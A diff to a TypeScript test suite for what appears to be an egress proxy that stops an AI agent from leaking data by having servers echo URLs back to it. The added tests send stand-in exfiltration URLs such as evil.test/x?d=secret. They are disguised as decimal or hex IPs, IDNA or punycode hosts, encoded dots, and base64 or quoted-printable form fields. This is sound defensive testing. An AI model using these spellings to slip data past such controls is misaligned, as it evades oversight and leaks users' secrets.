@@ -15,7 +15,7 @@
 import http from 'node:http';
 import fc from 'fast-check';
 import t from 'tap';
-import { LinkScanner, echoedBy, requestSkeletons, type LinkFormat } from '../../describe/links.ts';
+import { LinkScanner, echoedBy, normalizeLink, pageSkeleton, requestSkeletons, type LinkFormat } from '../../describe/links.ts';
 import { tempDir, type Teardown } from '../temp-dir.ts';
 import { policyCopy, startSessionAirlock, testConfig, viaCurl, viaPython, type Web } from '../sessions/helpers.ts';
 
@@ -77,11 +77,12 @@ function answerWith(echo: string, format: LinkFormat, served: string): string {
 }
 
 function recorded(request: Parameters<typeof requestSkeletons>[0], format: LinkFormat, body: string): string[] {
-  const scanner = new LinkScanner(format, 'https://search.example/search?q=news');
+  const page = `https://search.example${request.pathAndQuery}`;
+  const scanner = new LinkScanner(format, page);
   scanner.write(body);
   const sent = requestSkeletons(request);
   if (!sent) return [];
-  return scanner.end().filter((u) => !echoedBy(u, sent));
+  return scanner.end().filter((u) => !echoedBy(u, sent, scanner.spellingsOf(u), pageSkeleton(page)));
 }
 
 t.test('a URL the request carried is not recorded when the answer echoes it, however transformed (property)', async (t) => {
@@ -93,6 +94,55 @@ t.test('a URL the request carried is not recorded when the answer echoes it, how
     // The result the source chose is recorded; nothing on the agent's own host is.
     const leaked = links.filter((l) => new URL(l).hostname.endsWith(new URL(url).hostname.split('.').slice(1).join('.').replace('bücher', 'xn--bcher-kva')));
     return links.includes(served) && leaked.length === 0;
+  }), { numRuns, ...seed });
+});
+
+// The agent may spell the URL in a form the URL parser rewrites: a default port, dot-segments, an
+// IPv4 address in decimal, hex, octal or short form, IPv6 with zeros, a host letter that IDNA
+// maps to others (ẞ → ss), punycode the answer shows in Unicode, or dots written as entities or
+// JSON escapes that the answer's own format decodes. Echoed as written (or canonicalized by the
+// server), the link the scanner normalizes must still be recognized as the agent's.
+const ipv4 = fc.tuple(fc.integer({ min: 1, max: 223 }), fc.nat(255), fc.nat(255), fc.integer({ min: 1, max: 254 }));
+const rewritten = fc.record({
+  how: fc.constantFrom('default-port', 'padded-port', 'dot-segments', 'ipv4-decimal', 'ipv4-hex', 'ipv4-octal', 'ipv4-short', 'ipv6-zeros', 'idna-mapped', 'punycode-shown-unicode', 'encoded-dots'),
+  scheme: fc.constantFrom('http', 'https'),
+  word, ip: ipv4,
+  mapped: fc.constantFrom('ẞ', 'ϲ', 'ᾀ', 'ͅ', 'ᲀ'),
+  path: fc.array(word, { minLength: 1, maxLength: 3 }),
+  query: fc.array(fc.tuple(word, word), { maxLength: 2 }),
+});
+
+t.test('a URL spelled in a form the URL parser rewrites is still recognized as the echo (property)', async (t) => {
+  const served = 'https://blog.example/posts/2024/airlock-review';
+  fc.assert(fc.property(rewritten, fc.constantFrom(...placements), fc.constantFrom<LinkFormat>('html', 'json', 'text'), fc.boolean(), (u, where, format, canonical) => {
+    const [a, b, c, d] = u.ip;
+    const rest = `/${u.path.join('/')}${u.query.length ? `?${u.query.map(([k, v]) => `${k}=${v}`).join('&')}` : ''}`;
+    let host = `${u.word}.evil.example`;
+    let port = '';
+    let path = rest;
+    switch (u.how) {
+      case 'default-port': port = u.scheme === 'https' ? ':443' : ':80'; break;
+      case 'padded-port': port = u.scheme === 'https' ? ':00443' : ':080'; break;
+      case 'dot-segments': path = `/${u.word}/..${rest}`; break;
+      case 'ipv4-decimal': host = String(a * 2 ** 24 + b * 2 ** 16 + c * 2 ** 8 + d); break;
+      case 'ipv4-hex': host = `0x${[a, b, c, d].map((x) => x.toString(16).padStart(2, '0')).join('')}`; break;
+      case 'ipv4-octal': host = [a, b, c, d].map((x) => `0${x.toString(8)}`).join('.'); break;
+      case 'ipv4-short': host = `${a}.${b * 65536 + c * 256 + d}`; break;
+      case 'ipv6-zeros': host = `[2001:0db8:0000:0000::${(a * 256 + b).toString(16).padStart(4, '0')}]`; break;
+      case 'idna-mapped': host = `${u.word}.${u.mapped}x.example`; break;
+      case 'punycode-shown-unicode': host = `${u.word}.xn--bcher-kva.example`; break;
+      default: host = format === 'html' ? `${u.word}&#46;evil&#x2e;example` : format === 'json' ? `${u.word}\\u002eevil\\u002Eexample` : host;
+    }
+    const written = `${u.scheme}://${host}${port}${path}`;
+    const leaked = normalizeLink(written.replace(/&#46;|&#x2e;|\\u002e/gi, '.'));
+    if (!leaked) return true;
+    // The server echoes what it received, or (when it understood it as a URL) its canonical form.
+    let echo = canonical && u.how !== 'encoded-dots' && where !== 'no-scheme' ? new URL(written).href : written;
+    if (u.how === 'punycode-shown-unicode') echo = echo.replace('xn--bcher-kva', 'bücher');
+    if (where === 'no-scheme') echo = echo.replace(/^https?:\/\//i, 'http://');
+    const links = recorded(requestWith(written, where), format, answerWith(echo, format, served));
+    const leakedHost = new URL(leaked).host;
+    return links.includes(served) && !links.some((l) => new URL(l).host === leakedHost);
   }), { numRuns, ...seed });
 });
 
@@ -120,12 +170,32 @@ async function startEchoWeb(t: Teardown): Promise<Web & { all: Hit[] }> {
   const all: Hit[] = [];
   let port = 0;
   const server = http.createServer((req, res) => {
-    req.resume();
+    const chunks: Buffer[] = [];
+    req.on('data', (c: Buffer) => chunks.push(c));
     req.on('end', () => {
       const host = (req.headers.host ?? '').split(':')[0]!;
       all.push({ host, url: req.url ?? '', headers: req.headers });
-      const q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
-      if (host === 'search.test') {
+      let q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
+      // A multipart form, read as a MIME parser does (Go's mime/multipart undoes quoted-printable;
+      // some undo base64 too): the field q, its transfer encoding undone.
+      const boundary = /boundary=([^;]+)/.exec(req.headers['content-type'] ?? '')?.[1];
+      if (boundary) {
+        for (const part of Buffer.concat(chunks).toString('latin1').split(`--${boundary}`)) {
+          const [head = '', body = ''] = part.split('\r\n\r\n');
+          if (!/name="q"/.test(head)) continue;
+          const value = body.replace(/\r\n$/, '');
+          const cte = /content-transfer-encoding:\s*(\S+)/i.exec(head)?.[1]?.toLowerCase();
+          q = cte === 'base64' ? Buffer.from(value, 'base64').toString('utf8')
+            : cte === 'quoted-printable' ? value.replace(/=\r\n/g, '').replace(/=([0-9A-F]{2})/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16)))
+            : value;
+        }
+      }
+      if (host === 'search.test' && req.url?.startsWith('/page/')) {
+        // A page with share buttons: links to other hosts that carry the page's own URL.
+        const self = encodeURIComponent(`http://search.test:${port}${req.url}`);
+        res.setHeader('content-type', 'text/html');
+        res.end(`<p>An article.</p><a href="http://evil.test:${port}/share?u=${self}">share</a> <a href="http://evil.test:${port}/archive/http://search.test:${port}${req.url}">archive</a> <a href="http://blog.test:${port}/post?id=4">more</a>`);
+      } else if (host === 'search.test') {
         res.setHeader('content-type', 'application/json');
         res.end(JSON.stringify({ query: { original: q, header: req.headers['x-query'] ?? '', upper: q.toUpperCase() }, results: [{ url: `http://blog.test:${port}/post?id=4` }] }));
       } else {
@@ -142,7 +212,8 @@ async function startEchoWeb(t: Teardown): Promise<Web & { all: Hit[] }> {
 
 t.test('through the real proxy: echoed URLs stay unfollowable; a followed link carries none of the agent\'s headers', async (t) => {
   const web = await startEchoWeb(t);
-  const airlock = await startSessionAirlock(t, tempDir(t, 'al-echo-'), policyCopy(t, { config: { ...testConfig.config, labels: { hosts: { 'search.test': [] } } } }), web);
+  const allowed = [...testConfig.config.allowed_hosts.filter((h) => h !== 'search.test'), { host: 'search.test', methods: ['POST'] }];
+  const airlock = await startSessionAirlock(t, tempDir(t, 'al-echo-'), policyCopy(t, { config: { ...testConfig.config, allowed_hosts: allowed, labels: { hosts: { 'search.test': [] } } } }), web);
   const agent = await airlock.agents.add('bot');
   const proxy = airlock.proxyUrl('bot', agent.token);
   const evil = (d: string): string => `http://evil.test:${web.port}/x?d=${d}`;
@@ -154,6 +225,34 @@ t.test('through the real proxy: echoed URLs stay unfollowable; a followed link c
   for (const u of [evil('secret1'), evil('secret2'), evil('secret3'), evil('secret3').toUpperCase().replace(/^HTTP:\/\/EVIL\.TEST/, 'http://evil.test')]) {
     const r = await viaCurl(proxy, 'GET', u);
     t.equal(r.status, 403, `the echoed ${u} is not followable`);
+  }
+  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
+
+  // Spellings the scanner normalizes: an address in decimal, dot-segments (echoed as written).
+  const spelled: Array<[string, string]> = [
+    [`http://2130706433:${web.port}/x?d=secret10`, `http://127.0.0.1:${web.port}/x?d=secret10`],
+    [`http://evil.test:${web.port}/a/../x?d=secret11`, `http://evil.test:${web.port}/x?d=secret11`],
+  ];
+  for (const [written, normalized] of spelled) {
+    t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(written)}`)).status, 200);
+    t.equal((await viaCurl(proxy, 'GET', normalized)).status, 403, `the echoed ${written} is not followable as ${normalized}`);
+  }
+  t.notOk(web.all.some((h) => h.host !== 'search.test' && /secret1[01]/.test(h.url)), 'no echoed spelling reached its host');
+
+  // A multipart form whose field is base64 or quoted-printable: the server undoes it and echoes the URL.
+  const form = (cte: string, value: string): string => `--b0\r\nContent-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: ${cte}\r\n\r\n${value}\r\n--b0--\r\n`;
+  const qp = (u: string): string => [...u].map((c) => `=${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/(.{60})/g, '$1=\r\n');
+  for (const [cte, value, d] of [['base64', Buffer.from(evil('secret13')).toString('base64'), 'secret13'], ['quoted-printable', qp(evil('secret14')), 'secret14']] as const) {
+    t.equal(await postVia(airlock.proxyAddress.port, `bot:${agent.token}`, `${web.origin('search.test')}/s`, 'multipart/form-data; boundary=b0', form(cte, value)), 200);
+    t.equal((await viaCurl(proxy, 'GET', evil(d))).status, 403, `the ${cte} field echoed is not followable`);
+  }
+  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
+
+  // A page whose links to another host carry the page's own URL (share and archive buttons): the
+  // agent chose that URL, so those links carry its data.
+  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/page/secret12`)).status, 200);
+  for (const u of [`http://evil.test:${web.port}/share?u=${encodeURIComponent(`${web.origin('search.test')}/page/secret12`)}`, `http://evil.test:${web.port}/archive/${web.origin('search.test')}/page/secret12`]) {
+    t.equal((await viaCurl(proxy, 'GET', u)).status, 403, `${u} embeds the page's URL: not followable`);
   }
   t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
 
@@ -177,3 +276,15 @@ t.test('through the real proxy: echoed URLs stay unfollowable; a followed link c
   await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=x`, undefined, { 'x-query': 'kept' });
   t.equal(web.all.at(-1)!.headers['x-query'], 'kept');
 });
+
+/** A POST through the proxy with Node's http client (one Content-Type, as given); its status. */
+function postVia(proxyPort: number, credentials: string, url: string, type: string, body: string): Promise<number> {
+  return new Promise((resolve, reject) => {
+    const req = http.request({ host: '127.0.0.1', port: proxyPort, method: 'POST', path: url, headers: { host: new URL(url).host, 'proxy-authorization': `Basic ${Buffer.from(credentials).toString('base64')}`, 'content-type': type, 'content-length': Buffer.byteLength(body) } }, (res) => {
+      res.resume();
+      res.on('end', () => resolve(res.statusCode ?? 0));
+    });
+    req.on('error', reject);
+    req.end(body);
+  });
+}
